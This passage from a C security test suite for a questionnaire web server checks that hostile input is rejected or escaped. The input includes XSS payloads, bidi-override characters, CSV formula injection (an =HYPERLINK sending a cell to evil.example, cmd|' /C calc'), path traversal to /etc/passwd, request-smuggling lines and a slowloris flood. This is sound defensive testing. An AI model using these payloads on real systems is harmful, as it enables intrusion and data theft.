	ck_assert_int_eq(h_get(C, "/q/" QID, &r), 200);
	p = strstr(r.body, "name=\"_csrf\" value=\"");
	ck_assert_ptr_nonnull(p);
	csrf = strndup(p + strlen("name=\"_csrf\" value=\""), 32);
	h_resp_free(&r);
	free(path);
	return csrf;
}

START_TEST(test_hostile_bad_encodings_in_form_posts_are_400)
{
	static const struct {
		const char *fields;
		size_t len;
		const char *what;
	} cases[] = {
		{"colour=red&comments=a%00b", 0, "%00"},
		{"colour=red&comm%00ents=x", 0, "%00 in a name"},
		{"colour=red&comments=%C0%AF", 0, "overlong %C0%AF"},
		{"colour=red&comments=%E0%80%AF", 0, "overlong 3-byte"},
		{"colour=red&comments=%ED%A0%80", 0, "surrogate"},
		{"colour=red&comments=%F4%90%80%80", 0, "past U+10FFFF"},
		{"colour=red&comments=%FF", 0, "%FF"},
		{"colour=red&comments=%E2%82", 0, "truncated sequence"},
		{"colour=red&comments=%G1", 0, "invalid escape"},
		{"colour=red&comments=%", 0, "cut escape"},
		{"colour=red&comments=\xff", 0, "raw invalid byte"},
		{LIT("colour=red&comments=a\0b"), "raw NUL"},
	};
	char *tok = h_token(&E, QID, "d1", "delegate");
	char *csrf = browser_session(tok);
	size_t i;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct dbsnap s;
		struct h_resp r;
		char body[256];
		size_t flen = cases[i].len ? cases[i].len : strlen(cases[i].fields);
		int n = snprintf(body, sizeof body, "_csrf=%s&", csrf);
		memcpy(body + n, cases[i].fields, flen);
		snap_take(&s);
		h_request(C, "POST", "/q/" QID, "application/x-www-form-urlencoded", body,
		          (size_t)n + flen, 0, NULL, &r);
		ck_assert_msg(r.status == 400, "%s: %ld", cases[i].what, r.status);
		ck_assert_msg(strstr(r.body, "could not be read") != NULL, "%s: %s", cases[i].what,
		              r.body);
		h_resp_free(&r);
		snap_same(&s, cases[i].what);
	}
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
	free(csrf);
	free(tok);
}
END_TEST

/* --------------------------------------------------------------- JSON */

START_TEST(test_hostile_json_10000_deep_is_400)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	size_t depth = 10000, i, n;
	char *b = malloc(2 * depth + 64);
	/* arrays */
	for (i = 0; i < depth; i++)
		b[i] = '[';
	for (i = 0; i < depth; i++)
		b[depth + i] = ']';
	b[2 * depth] = '\0';
	api_rejects_str(tok, b, 400, "bad_request", "malformed JSON", "10000 arrays");
	/* unclosed */
	b[depth] = '\0';
	api_rejects_str(tok, b, 400, "bad_request", "malformed JSON", "10000 open arrays");
	/* objects inside the answers */
	n = (size_t)snprintf(b, 64, "{\"answers\":{\"comments\":");
	for (i = 0; i < depth / 6; i++, n += 5)
		memcpy(b + n, "{\"a\":", 5);
	memcpy(b + n, "1", 1);
	n++;
	for (i = 0; i < depth / 6; i++)
		b[n++] = '}';
	memcpy(b + n, "}}", 3);
	api_rejects_str(tok, b, 400, "bad_request", "malformed JSON", "deep objects in answers");
	free(b);
	free(tok);
}
END_TEST

START_TEST(test_hostile_duplicate_keys_and_huge_numbers)
{
	char *tok = h_token(&E, QID, "d1", "delegate");
	static const char *const dup[] = {
		"{\"answers\":{\"colour\":\"red\",\"colour\":\"blue\",\"proposal\":{\"position\":\"support\"}}}",
		"{\"answers\":{\"colour\":\"red\",\"proposal\":{\"position\":\"support\",\"position\":\"object\"}}}",
		("{\"answers\":{\"colour\":\"red\",\"per_sg\":{\"sg2\":1,\"sg2\":5},"
		 "\"proposal\":{\"position\":\"support\"}}}"),
		/* the same key spelt with an escape */
		"{\"answers\":{\"colour\":\"red\",\"col\\u006fur\":\"blue\",\"proposal\":{\"position\":\"support\"}}}",
	};
	static const struct {
		const char *body, *field;
	} huge[] = {
		{"{\"answers\":{\"colour\":\"red\",\"how_many\":123456789012345678901234567890,"
		 "\"proposal\":{\"position\":\"support\"}}}", "how_many"},
		{"{\"answers\":{\"colour\":\"red\",\"how_many\":-123456789012345678901234567890,"
		 "\"proposal\":{\"position\":\"support\"}}}", "how_many"},
		{"{\"answers\":{\"colour\":\"red\",\"clear\":123456789012345678901234567890,"
		 "\"proposal\":{\"position\":\"support\"}}}", "clear"},
		{"{\"answers\":{\"colour\":\"red\",\"per_sg\":{\"sg2\":4294967297},"
		 "\"proposal\":{\"position\":\"support\"}}}", "per_sg"},
		{"{\"answers\":{\"colour\":\"red\",\"how_many\":1e400,"
		 "\"proposal\":{\"position\":\"support\"}}}", "how_many"},
		{"{\"answers\":{\"colour\":\"red\",\"how_many\":-1e400,"
		 "\"proposal\":{\"position\":\"support\"}}}", "how_many"},
		{"{\"answers\":{\"colour\":\"red\",\"clear\":1e400,"
		 "\"proposal\":{\"position\":\"support\"}}}", "clear"},
		{"{\"answers\":{\"colour\":\"red\",\"how_many\":12.000000000000001,"
		 "\"proposal\":{\"position\":\"support\"}}}", "how_many"},
	};
	size_t i;
	for (i = 0; i < sizeof dup / sizeof dup[0]; i++)
		api_rejects_str(tok, dup[i], 400, "bad_request", "malformed JSON", dup[i]);
	for (i = 0; i < sizeof huge / sizeof huge[0]; i++) {
		struct dbsnap s;
		struct h_resp r;
		cJSON *j, *f;
		snap_take(&s);
		h_post_json(C, API "/responses", tok, huge[i].body, &r);
		/* refused as malformed (a number JSON cannot carry) or as an invalid
		 * answer for that question: never stored */
		ck_assert_msg(r.status == 400 || r.status == 422, "%s: %ld %s", huge[i].body, r.status,
		              r.body);
		if (r.status == 422) {
			assert_api_error(&r, 422, "invalid_answers", NULL, huge[i].body);
			j = h_json(r.body);
			f = cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(j, "error"),
			                                     "fields");
			ck_assert_msg(cJSON_IsString(cJSON_GetObjectItemCaseSensitive(f, huge[i].field)),
			              "%s: no reason for %s: %s", huge[i].body, huge[i].field, r.body);
			cJSON_Delete(j);
		} else {
			assert_api_error(&r, 400, "bad_request", NULL, huge[i].body);
		}
		h_resp_free(&r);
		snap_same(&s, huge[i].body);
	}
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
	free(tok);
}
END_TEST

START_TEST(test_hostile_wrong_types_for_each_question_type_are_422)
{
	/* base: a valid set; each case replaces one answer */
	static const struct {
		const char *field, *value;
	} cases[] = {
		{"colour", "7"}, {"colour", "[\"red\"]"}, {"colour", "{\"id\":\"red\"}"},
		{"colour", "true"}, {"colour", "\"RED\""}, {"colour", "\"\""},
		{"tools", "\"email\""}, {"tools", "[1]"}, {"tools", "{\"email\":true}"},
		{"tools", "[\"email\",\"email\"]"}, {"tools", "[[\"email\"]]"},
		{"clear", "\"3\""}, {"clear", "3.5"}, {"clear", "true"}, {"clear", "[3]"},
		{"clear", "0"}, {"clear", "-1"},
		{"per_sg", "[4,4]"}, {"per_sg", "{\"sg2\":\"4\"}"}, {"per_sg", "{\"sg2\":4.5}"},
		{"per_sg", "{\"sg2\":[4]}"}, {"per_sg", "4"},
		{"order", "\"alpha\""}, {"order", "[1,2]"}, {"order", "{\"alpha\":1}"},
		{"order", "[\"alpha\",\"delta\"]"},
		{"proposal", "\"support\""}, {"proposal", "{\"position\":1}"},
		{"proposal", "{\"position\":\"support\",\"reason\":5}"},
		{"proposal", "{\"position\":\"veto\"}"}, {"proposal", "[\"support\"]"},
		{"proposal", "{\"position\":\"support\",\"extra\":\"x\"}"},
		{"how_many", "\"12\""}, {"how_many", "true"}, {"how_many", "[12]"},
		{"how_many", "{\"n\":12}"},
		{"comments", "42"}, {"comments", "[\"x\"]"}, {"comments", "{\"t\":\"x\"}"},
		{"comments", "true"},
	};
	char *tok = h_token(&E, QID, "d1", "delegate");
	size_t i;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char body[512];
		struct dbsnap s;
		struct h_resp r;
		cJSON *j, *f;
		if (strcmp(cases[i].field, "proposal") == 0)
			snprintf(body, sizeof body, "{\"answers\":{\"colour\":\"red\",\"proposal\":%s}}",
			         cases[i].value);
		else if (strcmp(cases[i].field, "colour") == 0)
			snprintf(body, sizeof body,
			         "{\"answers\":{\"colour\":%s,\"proposal\":{\"position\":\"support\"}}}",
			         cases[i].value);
		else
			snprintf(body, sizeof body,
			         "{\"answers\":{\"colour\":\"red\",\"%s\":%s,"
			         "\"proposal\":{\"position\":\"support\"}}}",
			         cases[i].field, cases[i].value);
		snap_take(&s);
		h_post_json(C, API "/responses", tok, body, &r);
		assert_api_error(&r, 422, "invalid_answers", NULL, body);
		j = h_json(r.body);
		f = cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(j, "error"),
		                                     "fields");
		ck_assert_msg(cJSON_IsString(cJSON_GetObjectItemCaseSensitive(f, cases[i].field)),
		              "%s = %s: no reason for it in %s", cases[i].field, cases[i].value, r.body);
		cJSON_Delete(j);
		h_resp_free(&r);
		snap_same(&s, body);
	}
	/* an unknown question id, and answers that are not an object */
	api_rejects_str(tok,
	                "{\"answers\":{\"colour\":\"red\",\"proposal\":{\"position\":\"support\"},"
	                "\"__proto__\":\"x\"}}",
	                422, "invalid_answers", NULL, "unknown question");
	api_rejects_str(tok, "{\"answers\":\"colour=red\"}", 400, "bad_request", NULL,
	                "answers a string");
	api_rejects_str(tok, "{\"answers\":null}", 400, "bad_request", NULL, "answers null");
	ck_assert_int_eq(h_db_count(&E, "revision"), 0);
	free(tok);
}
END_TEST

/* ------------------------------------------------------------- output */

#define XSS_SCRIPT "<script>alert(1)</script>"
#define XSS_IMG "\"><img src=x onerror=alert(1)>"
#define RLO "\xe2\x80\xae"

/* Nothing in text may turn hostile input into markup or raw bidi controls. */
static void assert_inert(const char *text, const char *where)
{
	ck_assert_msg(strstr(text, "<script>alert") == NULL, "%s: raw <script>alert", where);
	ck_assert_msg(strstr(text, "<img src=x") == NULL, "%s: raw <img src=x", where);
	ck_assert_msg(strstr(text, "onerror=alert(1)>") == NULL || strstr(text, "<img") == NULL,
	              "%s: live onerror", where);
	ck_assert_msg(strstr(text, RLO) == NULL, "%s: a raw U+202E", where);
	ck_assert_msg(strstr(text, "\xe2\x81\xa6") == NULL, "%s: a raw U+2066", where);
}

START_TEST(test_hostile_free_text_is_shown_escaped_and_inert_everywhere)
{
	/* hostile entity and attribute too: they come from the delegate list */
	static const char attrs[] = "{\"category\":\"<script>alert(1)</script>\",\"sg\":\"SG17\","
	                            "\"region\":\"\\\"><img src=x onerror=alert(1)>\",\"hod\":\"no\"}";
	static const char body[] =
		"{\"answers\":{\"colour\":\"blue\","
		"\"why_blue\":\"<script>alert(1)</script> \\\"><img src=x onerror=alert(1)> \\u202Egnp.exe\","
		"\"proposal\":{\"position\":\"object\",\"reason\":\"<script>alert(1)</script>\\u202E\\u2066\"},"
		"\"comments\":\"\\\"><img src=x onerror=alert(1)><script>alert(1)</script>\\u202E\"}}";
	char *c = h_claims(&E, QID, "x1", "delegate", "<script>alert(1)</script>\xe2\x80\xae", NULL,
	                   -60, 3600, attrs);
	char *tok = h_sign(&E, c), *chair = h_token(&E, QID, "chair1", "chair");
	char *form = h_form_path("all-types.json"), out[PATH_MAX + 32], *report = NULL, *csv = NULL;
	struct h_resp r;
	size_t n = strlen(tok) + 8;
	char *path = malloc(n);

	ck_assert_int_eq(h_post_json(C, API "/responses", tok, body, &r), 201);
	h_resp_free(&r);

	/* the form page, prefilled */
	snprintf(path, n, "/t/%s", tok);
	ck_assert_int_eq(h_get(C, path, &r), 303);
	h_resp_free(&r);
	ck_assert_int_eq(h_get(C, "/q/" QID, &r), 200);
	assert_inert(r.body, "form page");
	ck_assert(strstr(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;") != NULL);
	ck_assert(strstr(r.body, "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;") != NULL);
	ck_assert(strstr(r.body, "[U+202E]") != NULL);
	h_resp_free(&r);
	/* the receipt page */
	ck_assert_int_eq(h_get(C, "/q/" QID "/receipt", &r), 200);
	assert_inert(r.body, "receipt page");
	ck_assert(strstr(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;") != NULL);
	h_resp_free(&r);
	/* the chair's dashboard, plain and broken down by the hostile attribute */
	ck_assert_int_eq(h_get_bearer(C, "/chair/" QID, chair, &r), 200);
	assert_inert(r.body, "chair view");
	ck_assert_msg(strstr(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;") != NULL,
	              "the chair view does not show the objection");
	h_resp_free(&r);
	ck_assert_int_eq(h_get_bearer(C, "/chair/" QID "?by=region", chair, &r), 200);
	assert_inert(r.body, "chair view by region");
	h_resp_free(&r);
	ck_assert_int_eq(h_get_bearer(C, "/chair/" QID "?by=category", chair, &r), 200);
	assert_inert(r.body, "chair view by category");
	h_resp_free(&r);

	/* tally report, plain and by region */
	snprintf(out, sizeof out, "%s/report.html", E.dir);
	{
		const char *argv[] = {getenv("SND_TALLY"), "report", "--db", E.db, "--form", form,
		                      "--out", out, NULL};
		ck_assert_int_eq(h_run(argv, NULL), 0);
	}
	ck_assert(snd_read_file(out, (size_t)16 << 20, &report, NULL) == SND_OK);
	assert_inert(report, "tally report");
	ck_assert(strstr(report, "&lt;script&gt;alert(1)&lt;/script&gt;") != NULL);
	free(report);
	{
		const char *argv[] = {getenv("SND_TALLY"), "report", "--db", E.db, "--form", form,
		                      "--by", "region", "--out", out, NULL};
		ck_assert_int_eq(h_run(argv, NULL), 0);
	}
	ck_assert(snd_read_file(out, (size_t)16 << 20, &report, NULL) == SND_OK);
	assert_inert(report, "tally report by region");
	free(report);
	/* Markdown is rendered as HTML by most viewers: no live markup there either */
	{
		const char *argv[] = {getenv("SND_TALLY"), "summary", "--db", E.db, "--form", form,
		                      "--format", "md", NULL};
		ck_assert_int_eq(h_run(argv, &csv), 0);
		const char *p;
		for (p = csv; (p = strchr(p, '<')) != NULL; p++)
			ck_assert_msg(p > csv && p[-1] == '\\' ? 1 : (strncmp(p, "<script", 7) != 0 &&
			                                                strncmp(p, "<img", 4) != 0),
			              "summary --format md carries live markup:\n%s", csv);
		free(csv);
	}
	free(path);
	free(form);
	free(chair);
	free(tok);
	free(c);
}
END_TEST

/* A parsed CSV cell a spreadsheet would run as a formula. */
static int formula_cell(const char *s)
{
	char *end;
	if (s[0] == '=' || s[0] == '+' || s[0] == '@' || s[0] == '\t' || s[0] == '\r')
		return 1;
	if (s[0] == '-') {
		(void)strtod(s, &end);
		return !(end != s && *end == '\0');
	}
	return 0;
}

static void assert_no_formula(const char *text, const char *what, int *guarded)
{
	struct snd_csv csv;
	char err[200];
	size_t line = 0, i, j;
	ck_assert_msg(snd_csv_parse(text, strlen(text), &csv, &line, err, sizeof err) == SND_OK,
	              "%s: not CSV (line %zu: %s)", what, line, err);
	for (i = 0; i < csv.nrows; i++)
		for (j = 0; j < csv.rows[i].nfields; j++) {
			const char *f = csv.rows[i].fields[j];
			ck_assert_msg(!formula_cell(f), "%s: line %zu: a formula cell: %s", what,
			              csv.rows[i].line, f);
			if (f[0] == '\'' && formula_cell(f + 1))
				(*guarded)++;
		}
	snd_csv_free(&csv);
}

START_TEST(test_hostile_csv_exports_defuse_formulas)
{
	static const char attrs[] = "{\"category\":\"@SUM(1+1)*cmd|' /C calc'!A0\",\"sg\":\"-2+3\","
	                            "\"region\":\"+1+1\",\"hod\":\"=1+1\"}";
	static const char body[] =
		"{\"answers\":{\"colour\":\"blue\","
		"\"why_blue\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\","
		"\"proposal\":{\"position\":\"object\",\"reason\":\"-2+3+cmd|' /C calc'!A0\"},"
		"\"comments\":\"@SUM(A1:A9)\"}}";
	char *c = h_claims(&E, QID, "=cmd|' /C calc'!A0", "delegate", "=HYPERLINK(\"http://x\")", NULL,
	                   -60, 3600, attrs);
	char *tok = h_sign(&E, c), *form = h_form_path("all-types.json"), *out = NULL;
	const char *const formats[] = {"export", "summary"};
	struct h_resp r;
	int guarded = 0;
	size_t i;

	ck_assert_int_eq(h_post_json(C, API "/responses", tok, body, &r), 201);
	h_resp_free(&r);
	for (i = 0; i < 2; i++) {
		const char *argv[] = {getenv("SND_TALLY"), formats[i], "--db", E.db, "--form", form,
		                      "--format", "csv", NULL};
		ck_assert_int_eq(h_run(argv, &out), 0);
		assert_no_formula(out, formats[i], &guarded);
		if (i == 0) {
			ck_assert_msg(strstr(out, "'=HYPERLINK(") != NULL, "export:\n%s", out);
			ck_assert_msg(strstr(out, "'@SUM(A1:A9)") != NULL, "export:\n%s", out);
			ck_assert_msg(strstr(out, "'-2+3+cmd") != NULL, "export:\n%s", out);
			ck_assert_msg(strstr(out, "'=cmd|") != NULL, "export (sub):\n%s", out);
		}
		free(out);
	}
	ck_assert_int_ge(guarded, 7);
	free(form);
	free(tok);
	free(c);
}
END_TEST

/* --------------------------------------------------------------- URLs */

START_TEST(test_hostile_odd_urls_are_400_or_404_never_200_or_500)
{
	static const char *const paths[] = {
		"/q/../../etc/passwd",
		"/q/" QID "/../../../etc/passwd",
		"/%2e%2e/%2e%2e/etc/passwd",
		"/q/%2e%2e/%2e%2e/etc/passwd",
		"/static/%2e%2e/%2e%2e/etc/passwd",
		"/static/..%2f..%2fetc%2fpasswd",
		"/static/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
		"/static/%252e%252e/etc/passwd",
		"//etc/passwd",
		"/q//" QID,
		"/static//sounding.css",
		"/q/" QID "%00",
		"/q/" QID "%00/receipt",
		"/healthz%00.html",
		"/static/sounding.css%00.txt",
		"/t/%00",
		"/q/%C3%A9",
		"/q/" QID "%5c..%5c..%5cetc%5cpasswd",
		"/q/" QID "/receipt/..",
		"/chair/" QID "/..",
		"/api/v1/questionnaires/..%2f..%2fetc",
		"/api/v1/questionnaires/" QID "/responses/../summary",
		"/q/" QID ";jsessionid=1",
		"/q/%20" QID,
		"/static/sounding.css/",
		"/.git/config",
		"/etc/passwd",
		"/q/" QID "?lang=../../../../etc/passwd",
	};
	size_t i;
	for (i = 0; i < sizeof paths / sizeof paths[0]; i++) {
		struct h_resp r;
		h_get(C, paths[i], &r);
		ck_assert_msg(r.status == 400 || r.status == 404 || (i == 27 && r.status == 401),
		              "%s: %ld", paths[i], r.status);
		ck_assert_msg(strstr(r.body, "root:") == NULL, "%s leaked a file", paths[i]);
		h_resp_free(&r);
	}
	/* long URLs: 2 KiB, 16 KiB, 100 KiB */
	{
		size_t lens[] = {2048, 16384, 102400};
		for (i = 0; i < 3; i++) {
			char *p = malloc(lens[i] + 1);
			struct h_resp r;
			long st;
			int fd;
			size_t k;
			memcpy(p, "/q/", 3);
			for (k = 3; k < lens[i]; k++)
				p[k] = (char)('a' + k % 26);
			p[lens[i]] = '\0';
			fd = h_raw_connect(&E);
			h_raw_send(fd, "GET ", 4);
			h_raw_send(fd, p, lens[i]);
			h_raw_send(fd, " HTTP/1.1\r\nHost: x\r\n\r\n", 22);
			st = h_raw_response(fd, 15000, &r);
			ck_assert_msg(st == 400 || st == 404 || st == 414 || st == 431 || st == 0,
			              "%zu-byte URL: %ld", lens[i], st);
			h_resp_free(&r);
			close(fd);
			free(p);
		}
	}
	{
		struct h_resp r;
		ck_assert_int_eq(h_get(C, "/healthz", &r), 200);
		h_resp_free(&r);
	}
}
END_TEST

START_TEST(test_hostile_unknown_methods_and_bad_request_lines)
{
	static const char *const methods[] = {"PUT", "DELETE", "PATCH", "PROPFIND", "TRACE",
	                                      "OPTIONS", "FOO"};
	static const char *const targets[] = {"/q/" QID, API "/responses", "/healthz",
	                                      "/static/sounding.css"};
	static const char *const raw[] = {
		"GET\r\n\r\n",
		"GET /healthz\r\n\r\n",                      /* HTTP/0.9 */
		"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n",
		"GET /healthz HTTP/1.1\r\nHost: x\r\nNo colon here\r\n\r\n",
		"GET /healthz HTTP/1.1\r\nHost: x\r\n Folded: header\r\n\r\n",
		"GET  /healthz  HTTP/1.1\r\nHost: x\r\n\r\n",
		"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", /* a TLS hello */
		"GET http://evil.example/etc/passwd HTTP/1.1\r\nHost: evil.example\r\n\r\n",
		"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n",
		"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	};
	struct dbsnap s;
	size_t i, j;
	snap_take(&s);
	for (i = 0; i < sizeof methods / sizeof methods[0]; i++)
		for (j = 0; j < sizeof targets / sizeof targets[0]; j++) {
			struct h_resp r;
			h_request(C, methods[i], targets[j], NULL, NULL, 0, 0, NULL, &r);
			ck_assert_msg(r.status == 405 || r.status == 400 || r.status == 501,
			              "%s %s: %ld", methods[i], targets[j], r.status);
			h_resp_free(&r);
		}
	for (i = 0; i < sizeof raw / sizeof raw[0]; i++) {
		struct h_resp r;
		long st;
		int fd = h_raw_connect(&E);
		h_raw_send(fd, raw[i], strlen(raw[i]));
		st = h_raw_response(fd, 15000, &r);
		/* refused, or answered only as what it is (healthz, a 404) */
		ck_assert_msg(st != 500 && st != -1 && (st != 200 || strstr(raw[i], "healthz")) &&
		              strstr(r.body, "root:") == NULL,
		              "raw case %zu: %ld", i, st);
		h_resp_free(&r);
		close(fd);
	}
	/* headers past the server's memory for one request: a 40 KiB cookie, 5,000
	 * headers; refused (400/413/431) or dropped, never served */
	{
		static const char *const kinds[] = {"cookie", "many"};
		for (i = 0; i < 2; i++) {
			struct snd_buf b;
			struct h_resp r;
			long st;
			int fd;
			snd_buf_init(&b, 0);
			snd_buf_puts(&b, "GET /q/" QID " HTTP/1.1\r\nHost: x\r\n");
			if (i == 0) {
				snd_buf_puts(&b, "Cookie: snd_session=");
				for (j = 0; j < 40960; j++)
					snd_buf_putc(&b, 'a');
				snd_buf_puts(&b, "\r\n");
			} else {
				for (j = 0; j < 5000; j++)
					snd_buf_printf(&b, "X-H%zu: v\r\n", j);
			}
			snd_buf_puts(&b, "\r\n");
			ck_assert(!b.failed);
			fd = h_raw_connect(&E);
			h_raw_send(fd, b.data, b.len);
			st = h_raw_response(fd, 15000, &r);
			ck_assert_msg(st == 400 || st == 413 || st == 431 || st == 0, "%s headers: %ld",
			              kinds[i], st);
			h_resp_free(&r);
			close(fd);
			snd_buf_free(&b);
		}
	}
	snap_same(&s, "methods and request lines");
	{
		struct h_resp r;
		ck_assert_int_eq(h_get(C, "/healthz", &r), 200);
		h_resp_free(&r);
	}
}
END_TEST

/* ----------------------------------------------------------- slowloris */

START_TEST(test_hostile_slowloris_does_not_starve_a_normal_client)
{
	enum { NSOCK = 50, SECONDS = 5 };
	static const char head[] = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";
	int fds[NSOCK], i, t, served = 0;
	char *tok = h_token(&E, QID, "d1", "delegate");
	for (i = 0; i < NSOCK; i++) {
		fds[i] = h_raw_connect(&E);
		ck_assert_int_eq(h_raw_send(fds[i], head, sizeof head - 1), 0);
	}
	for (t = 0; t < SECONDS; t++) {
		struct h_client *c = h_client_new(&E); /* a new connection each time */
		struct h_resp r;
		for (i = 0; i < NSOCK; i++)
			h_raw_send(fds[i], "a", 1); /* one header byte per second each */
		ck_assert_int_eq(h_get(c, "/healthz", &r), 200);
		h_resp_free(&r);
		ck_assert_int_eq(h_get(c, "/q/" QID, &r), 401); /* a page, answered */
		h_resp_free(&r);
		h_post_json(c, API "/responses", tok, OK_BODY, &r);
		ck_assert_int_eq(r.status, 201);
		h_resp_free(&r);
		served++;
		h_client_free(c);
		sleep(1);
	}
	ck_assert_int_eq(served, SECONDS);
	ck_assert_int_eq(h_db_count(&E, "revision"), SECONDS);
	for (i = 0; i < NSOCK; i++)
		close(fds[i]);
	free(tok);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("hostile");
	TCase *t = tcase_create("hostile");
	tcase_add_checked_fixture(t, up, down);
	tcase_set_timeout(t, 60);
	tcase_add_test(t, test_hostile_token_with_random_signature_is_401);
	tcase_add_test(t, test_hostile_truncated_tokens_are_401);
	tcase_add_test(t, test_hostile_token_resigned_with_another_key_under_our_kid_is_401);
	tcase_add_test(t, test_hostile_footer_tampering_is_401);
	tcase_add_test(t, test_hostile_signed_tokens_with_bad_claims_are_401);
	tcase_add_test(t, test_hostile_expired_not_yet_valid_revoked_tokens_everywhere);
	tcase_add_test(t, test_hostile_token_replayed_on_another_questionnaire_is_401);
	tcase_add_test(t, test_hostile_content_length_smaller_than_the_body_is_400);
	tcase_add_test(t, test_hostile_stalled_bodies_time_out_and_others_are_served);
	tcase_add_test(t, test_hostile_endless_chunked_body_is_cut_off);
	tcase_add_test(t, test_hostile_contradictory_or_bad_length_headers_store_nothing);
	tcase_add_test(t, test_hostile_bad_encodings_in_json_are_400);
	tcase_add_test(t, test_hostile_bad_encodings_in_form_posts_are_400);
	tcase_add_test(t, test_hostile_json_10000_deep_is_400);
	tcase_add_test(t, test_hostile_duplicate_keys_and_huge_numbers);
	tcase_add_test(t, test_hostile_wrong_types_for_each_question_type_are_422);
	tcase_add_test(t, test_hostile_free_text_is_shown_escaped_and_inert_everywhere);
	tcase_add_test(t, test_hostile_csv_exports_defuse_formulas);
	tcase_add_test(t, test_hostile_odd_urls_are_400_or_404_never_200_or_500);
	tcase_add_test(t, test_hostile_unknown_methods_and_bad_request_lines);
	tcase_add_test(t, test_hostile_slowloris_does_not_starve_a_normal_client);
	suite_add_tcase(s, t);
	return s;
}

int main(void)
{
	return h_run_suite(suite());
}
